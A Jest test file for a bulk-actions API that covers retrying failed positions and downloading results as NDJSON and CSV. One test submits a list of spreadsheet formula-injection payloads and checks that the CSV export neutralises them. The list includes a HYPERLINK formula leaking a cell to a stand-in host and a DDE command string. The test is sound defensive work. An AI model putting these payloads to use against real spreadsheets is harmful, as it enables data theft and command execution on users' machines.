import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { logEntrySchema, type LogEntry } from '@bulk/contracts';
import type { OutcomeStatus } from '@bulk/domain';
import { eventually } from '@bulk/testing';
import { parse } from 'csv-parse/sync';
import { entitiesOf, IntakeHarness, positionsOf } from './harness.ts';

let harness: IntakeHarness;
beforeAll(async () => {
  harness = await IntakeHarness.create();
  await harness.start();
});
afterAll(() => harness.installation.dispose());

const SIZE = 95;
const STATUSES: OutcomeStatus[] = ['success', 'failure', 'success', 'skipped'];
const statusOf = (position: number): OutcomeStatus => STATUSES[position % STATUSES.length]!;
const failing = entitiesOf(SIZE).filter((_, position) => statusOf(position) === 'failure');

/** Creates an action that has run, with the logs that stats-aggregator would have written. */
async function ended(config: Record<string, unknown> = {}): Promise<string> {
  const { body } = await harness.post({
    actionType: 'update',
    priority: 'low',
    config,
    retry: { maxAttempts: 9 },
    entities: entitiesOf(SIZE).map((entity, i) => ({ ...entity, ref: `row, ${i}` })),
  });
  const actionId = String(body.data?.['actionId']);
  await eventually('it is dispatched', async () => {
    return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
  });
  await withOutcomes(actionId);
  return actionId;
}

/** Writes the logs and the end of a dispatched action, as stats-aggregator would. */
async function withOutcomes(actionId: string): Promise<void> {
  const batches = await harness.database.stagedBatches.find({ actionId }).toArray();
  const counts = { success: 0, failure: 0, skipped: 0 };
  for (const { _id, batchNo, partition, entities } of batches) {
    const own = { success: 0, failure: 0, skipped: 0 };
    const outcomes = entities.map(({ position, id, ref }) => {
      const status = statusOf(position);
      own[status] += 1;
      counts[status] += 1;
      const failed = status !== 'success';
      return { position, entityId: id, ref, status, code: failed ? 'A_CODE' : null, message: failed ? 'why, "so"\n' : null, attempts: 1, ...(failed ? {} : { effect: 'updated' as const, version: 2 }) };
    }); // prettier-ignore
    await harness.database.actionLogs.insertOne({
      _id, actionId, batchNo, partition, counts: own, outcomes,
      firstPosition: entities[0]!.position,
      lastPosition: entities.at(-1)!.position,
      source: { partition: 0, offset: batchNo },
      at: new Date(1_000),
    }); // prettier-ignore
  }
  await harness.database.actions.updateOne(
    { _id: actionId },
    { $set: { status: 'completed', counts, finishedAt: new Date() } },
  );
}

const retry = (actionId: string) => harness.send('POST', `/bulk-actions/${actionId}/retry`);

describe('POST /bulk-actions/:id/retry', () => {
  it('creates an action of exactly the failed positions, in order, as they were sent', async () => {
    const actionId = await ended({ set: { ownerId: 'u1' } });
    const { status, headers, body } = await retry(actionId);
    expect(status).toBe(202);
    expect(body.data).toMatchObject({
      retryOf: actionId,
      total: failing.length,
      priority: 'low',
      config: { set: { ownerId: 'u1' } },
      retry: { maxAttempts: 9 },
    });
    const newId = String(body.data?.['actionId']);
    expect(newId).not.toBe(actionId);
    expect(headers.get('location')).toBe(`/bulk-actions/${newId}`);
    const published = await eventually('all positions', async () => {
      const batches = await harness.published(newId);
      return positionsOf(batches).length >= failing.length ? batches : undefined;
    });
    const sent = published.flatMap(({ batch }) => batch.entities).sort((a, b) => a.position - b.position);
    expect(sent.map(({ id, fields }) => ({ id, ...(JSON.parse(fields) as object) }))).toEqual(failing);
    expect(sent.every(({ id, ref }) => ref === `row, ${id.slice(1)}`)).toBe(true);
  });

  it('names the first action of a chain of retries in every batch', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    const firstId = String(first.body.data?.['actionId']);
    const { actions } = harness.database;
    await eventually('the retry is dispatched', async () => {
      return (await actions.findOne({ _id: firstId }))?.dispatch.done === true;
    });
    await withOutcomes(firstId);
    const second = await retry(firstId);
    const secondId = String(second.body.data?.['actionId']);
    const batches = await eventually('a batch of each', async () => {
      const each = await Promise.all([actionId, firstId, secondId].map((id) => harness.published(id)));
      return each.every(({ length }) => length > 0) ? each : undefined;
    });
    const roots = batches.map((some) => [...new Set(some.map(({ batch }) => batch.rootActionId))]);
    expect(roots).toEqual([[null], [actionId], [actionId]]);
    expect(second.body.data).toMatchObject({ retryOf: firstId });
  });

  it('returns the same action when repeated', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    const again = await retry(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(first.body.data?.['actionId']);
  });

  it('returns the same action when the batches of the old action are gone, and reads none of them', async () => {
    const actionId = await ended();
    const first = await retry(actionId);
    await harness.database.stagedBatches.deleteMany({ actionId });
    const again = await retry(actionId);
    expect([again.status, again.headers.get('idempotency-replayed')]).toEqual([202, 'true']);
    expect(again.body.data?.['actionId']).toBe(first.body.data?.['actionId']);
  });

  it('is refused before the end, without a failure, and when the sent entities are gone', async () => {
    const actionId = await ended();
    const { actions, stagedBatches } = harness.database;
    await actions.updateOne({ _id: actionId }, { $set: { status: 'processing' } });
    expect(await retry(actionId)).toMatchObject({
      status: 409,
      body: { error: { code: 'ACTION_NOT_FINISHED', details: { status: 'processing' } } },
    });
    await actions.updateOne({ _id: actionId }, { $set: { status: 'completed', 'counts.failure': 0 } });
    expect(await retry(actionId)).toMatchObject({
      status: 422,
      body: { error: { code: 'NOTHING_TO_RETRY' } },
    });
    await actions.updateOne({ _id: actionId }, { $set: { 'counts.failure': failing.length } });
    await stagedBatches.deleteOne({ actionId, batchNo: 5 });
    const before = await harness.traces();
    expect(await retry(actionId)).toMatchObject({ status: 409, body: { error: { code: 'RETRY_EXPIRED' } } });
    expect(await harness.traces()).toEqual(before);
  });
});

const UPDATE_CONFIG = encodeURIComponent('{}');
/** Ids and refs that spreadsheets would run as formulas. */
const FORMULAS = [
  '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
  '@SUM(1+9)',
  '+1-1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  "=cmd|' /C calc'!A0",
  '＝1+1',
  '＋1',
  '－1',
  '＠A1',
  ' =1+1',
  '\u00a0=1+1',
  '\ufeff=1+1',
  '"=1+1',
  'a;=1+1',
  'a\t+1',
  'plain',
].map((text) => ({ id: text, ref: text }));

const RESULTS = ['results.csv', 'results.ndjson'];
const asRows = (text: string): LogEntry[] =>
  text
    .split('\n')
    .filter((line) => line !== '')
    .map((line) => logEntrySchema.strict().parse(JSON.parse(line)));

async function download(path: string): Promise<{ response: Response; text: string }> {
  const response = await fetch(`${harness.url}${path}`, { headers: { 'x-account-id': 'acme' } });
  return { response, text: await response.text() };
}

describe('the results of an action', () => {
  it('come as NDJSON and as CSV with every outcome, in order of position, with the caller’s own row identity', async () => {
    const actionId = await ended();
    const ndjson = await download(`/bulk-actions/${actionId}/results.ndjson`);
    expect(ndjson.response.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
    expect(ndjson.response.headers.get('content-disposition')).toBe(
      `attachment; filename="${actionId}-results.ndjson"`,
    );
    const rows = asRows(ndjson.text);
    expect(rows.map(({ position }) => position)).toEqual(entitiesOf(SIZE).map((_, i) => i));
    expect(
      rows.every(({ position, ref, status }) => ref === `row, ${position}` && status === statusOf(position)),
    ).toBe(true);

    const csv = await download(`/bulk-actions/${actionId}/results.csv`);
    expect(csv.response.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    const records = parse(csv.text, { columns: true });
    expect(records).toEqual(
      rows.map(({ position, entityId, ref, status, code, message, attempts, at, effect, version }) => ({
        position: String(position),
        id: entityId,
        ref,
        status,
        code: code ?? '',
        message: message ?? '',
        attempts: String(attempts),
        at,
        effect: effect ?? '',
        version: version === null ? '' : String(version),
      })),
    );
  });

  it('start no formula in a spreadsheet as CSV, and are exact on request', async () => {
    const answer = await fetch(`${harness.url}/bulk-actions?actionType=update&config=${UPDATE_CONFIG}`, {
      method: 'POST',
      headers: { 'x-account-id': 'acme', 'content-type': 'application/x-ndjson' },
      body: FORMULAS.map((entity) => `${JSON.stringify(entity)}\n`).join(''),
    });
    const body = (await answer.json()) as { data?: { actionId: string } };
    expect([answer.status, body]).toMatchObject([202, {}]);
    const actionId = body.data!.actionId;
    await eventually('it is dispatched', async () => {
      return (await harness.database.actions.findOne({ _id: actionId }))?.dispatch.done === true;
    });
    await withOutcomes(actionId);

    const exact = await download(`/bulk-actions/${actionId}/results.csv?exact=true`);
    const values = (text: string): string[][] =>
      parse<Record<string, string>>(text, { columns: true }).map(({ id, ref }) => [id!, ref!]);
    const sent = FORMULAS.map(({ id, ref }) => [id, ref]);
    expect(values(exact.text)).toEqual(sent);
    const { text } = await download(`/bulk-actions/${actionId}/results.csv`);
    // Some spreadsheets split at commas, others at semicolons and tabs, wherever these are.
    const cells = [...parse(text).flat(), ...text.split(/[;\t\r\n]/)];
    expect(cells.filter((cell) => /^[\s\p{C}"]*[=+\-@＝＋－＠]/u.test(cell))).toEqual([]);
    // Only apostrophes are added.
    const bare = (all: string[][]): string[][] =>
      all.map((row) => row.map((cell) => cell.replaceAll("'", '')));
    expect(bare(values(text))).toEqual(bare(sent));
  });

  it.each(STATUSES.slice(1))('are filtered by type: %s', async (type) => {
    const actionId = await ended();
    const rows = asRows((await download(`/bulk-actions/${actionId}/results.ndjson?type=${type}`)).text);
    expect(rows.map(({ position }) => position)).toEqual(
      entitiesOf(SIZE).flatMap((_, position) => (statusOf(position) === type ? [position] : [])),
    );
  });

  it.each(RESULTS)('are empty as %s when the action has no outcomes', async (file) => {
    const { _id } = await harness.accepted(randomUUID(), 3, new Date('2999-01-01T00:00:00Z'));
    const { response, text } = await download(`/bulk-actions/${_id}/${file}`);
    expect(response.status).toBe(200);
    expect(text.split('\n').filter((line) => line !== '')).toHaveLength(file === 'results.csv' ? 1 : 0);
  });

  it.each(RESULTS)(
    'are refused as %s for another account, an unknown id and an invalid query',
    async (file) => {
      const { _id } = await harness.accepted(randomUUID(), 3, new Date('2999-01-01T00:00:00Z'));
      const refused = async (path: string, headers?: Record<string, string>): Promise<unknown> => {
        const answer = await harness.get(path, headers);
        return [answer.status, answer.body.error?.code];
      };
      expect(await refused(`/bulk-actions/${_id}/${file}`, { 'x-account-id': 'other' })).toEqual([
        404,
        'ACTION_NOT_FOUND',
      ]);
      expect(await refused(`/bulk-actions/${randomUUID()}/${file}`)).toEqual([404, 'ACTION_NOT_FOUND']);
      expect(await refused(`/bulk-actions/7/${file}`)).toEqual([400, 'INVALID_ID']);
      expect(await refused(`/bulk-actions/${_id}/${file}?type=bad`)).toEqual([400, 'INVALID_REQUEST']);
      expect(await refused(`/bulk-actions/${_id}/${file}`, {})).toEqual([400, 'ACCOUNT_REQUIRED']);
    },
  );
});
